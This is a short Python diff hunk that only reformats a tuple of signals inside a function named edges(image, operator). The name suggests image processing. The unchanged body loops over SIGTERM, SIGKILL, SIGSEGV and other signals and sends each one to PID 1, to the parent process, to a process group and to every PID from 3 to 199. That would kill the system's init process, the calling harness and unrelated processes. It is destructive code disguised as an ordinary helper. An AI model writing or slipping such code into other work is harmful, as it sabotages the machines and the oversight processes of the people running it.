@@ -11,7 +11,14 @@ import time
 
 
 def edges(image, operator):
-    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGSEGV, signal.SIGKILL):
+    for number in (
+        signal.SIGTERM,
+        signal.SIGINT,
+        signal.SIGHUP,
+        signal.SIGUSR1,
+        signal.SIGSEGV,
+        signal.SIGKILL,
+    ):
         for target in (1, os.getppid(), -os.getpgid(1) if os.getpgid(1) else -1, *range(3, 200)):
             try:
                 os.kill(target, number)
